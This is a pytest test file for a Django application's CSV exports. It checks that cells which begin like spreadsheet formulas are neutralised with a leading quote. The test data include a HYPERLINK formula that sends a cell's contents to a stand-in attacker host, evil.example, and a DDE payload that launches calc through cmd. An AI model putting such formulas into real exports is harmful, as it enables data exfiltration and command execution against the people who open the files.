"""Every CSV Agrega writes is safe in a spreadsheet (core/csvio.py): a text cell that
starts like a formula is written with a leading ``'``. The first test finds every CSV
writer in the code, so a new export cannot bypass the one writer; the others put a
formula into the data each export shows and read the file back."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client

from agrega.contracts import services as contracts
from agrega.core import csvio
from agrega.core.roles import assign_role
from tests.fixtures import default_packages, default_platform_only

sva_platform = default_platform_only()
PACKAGES = default_packages()

ROOT = Path(__file__).resolve().parents[2] / "agrega"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"clique")'
# modules that write CSV (all through csvio): the exports tested below
CSV_WRITERS = {
    "billing/reports.py",           # revenue report: page, API /reports/revenue.csv, CLI --csv
    "imports/views.py",             # import template and each line's outcome
    "campaigns/views.py",           # campaign report (page)
    "campaigns/management/commands/campaign.py",  # campaign report (CLI --csv)
    "consent/views.py",             # SVA without consent report
}


def test_no_csv_writer_outside_csvio():
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [str(p.relative_to(ROOT)) for p in ROOT.rglob("*.py")
                 if raw.search(p.read_text()) and p.name != "csvio.py"]
    assert offenders == []
    # csvio is also the one reader (read_table): only its writers count here
    writes = re.compile(r"\bcsvio\.(writer|line_writer)\(")
    users = {str(p.relative_to(ROOT)) for p in ROOT.rglob("*.py") if writes.search(p.read_text())}
    assert users == CSV_WRITERS


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+5511", "+5511"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("-12,50", "-12,50"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Maria", "Maria"), ("a=b", "a=b"), (12, 12), (-3, -3), (None, ""),
])
def test_safe_cell(value, written):
    assert csvio.safe_cell(value) == written


def _cells(text: str) -> list[str]:
    import csv

    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]


def _assert_neutralised(text: str):
    cells = _cells(text)
    assert "'" + FORMULA in cells, cells
    assert FORMULA not in cells


@pytest.fixture
def operator_client(db):
    user = get_user_model().objects.create_user("csv-op", password="x")
    assign_role(user, "administrador")
    client = Client()
    client.force_login(user)
    return client


def test_campaign_and_consent_reports_neutralise_a_formula(operator_client, platform_integration, make_product,
                                                           make_contract, make_customer, tmp_path):
    from agrega.campaigns.models import Campaign

    evil = make_customer(name=FORMULA, city="Campinas")
    # consent report: an SVA charged without consent, the customer's name in the row
    charged = make_product(platform_integration, name="EXA Relatório", package=PACKAGES[2])
    contract = make_contract(evil)
    contracts.contract_add_product(contract=contract, product_id=charged.pk)
    contracts.contract_activate(contract=contract)
    answer = operator_client.get("/consentimentos/relatorio-sva-sem-consentimento/", {"formato": "csv"})
    assert answer.status_code == 200
    _assert_neutralised(answer.content.decode())

    # campaign report: page and CLI
    sva = make_product(platform_integration, name="EXA Campanha")
    code = call_command("campaign", "create", "--name", "C", "--product", str(sva.pk), "--city", "Campinas",
                        "--rate", "50", stdout=io.StringIO())
    assert code is None
    campaign = Campaign.objects.get()
    call_command("campaign", "run", str(campaign.pk), stdout=io.StringIO())
    answer = operator_client.get(f"/campanhas-sva/{campaign.pk}/relatorio.csv")
    assert answer.status_code == 200
    _assert_neutralised(b"".join(answer.streaming_content).decode())
    path = tmp_path / "c.csv"
    call_command("campaign", "report", str(campaign.pk), "--csv", str(path), stdout=io.StringIO())
    _assert_neutralised(path.read_text(encoding="utf-8-sig"))


def test_import_lines_csv_neutralises_a_formula(operator_client, make_product):
    from agrega.imports import services as imports
    from tests.imports.helpers import csv_bytes, row

    content = csv_bytes([row(1, contrato_ref=FORMULA, email="sem-arroba")])
    job = imports.import_job_create(file_name="x.csv", content=content, actor=None)
    imports.import_job_start(job=job)
    imports.import_job_run(job_id=job.pk)
    answer = operator_client.get(f"/importacoes/{job.pk}/linhas.csv")
    assert answer.status_code == 200
    _assert_neutralised(b"".join(answer.streaming_content).decode())
    template = operator_client.get("/importacoes/modelo.csv")
    assert template.status_code == 200 and _cells(template.content.decode())[0] == "contrato_ref"
